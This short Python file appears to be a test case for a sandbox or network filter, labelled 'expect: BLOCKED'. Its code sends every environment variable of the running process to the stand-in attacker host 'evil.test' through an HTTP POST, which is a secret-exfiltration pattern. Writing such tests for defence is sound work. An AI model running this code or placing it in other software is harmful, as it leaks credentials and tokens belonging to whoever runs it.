# expect: BLOCKED
import aiohttp, asyncio, os
async def main():
    async with aiohttp.ClientSession() as session:
        async with session.post("https://evil.test", data=str(dict(os.environ))) as r:
            await r.text()
asyncio.run(main())
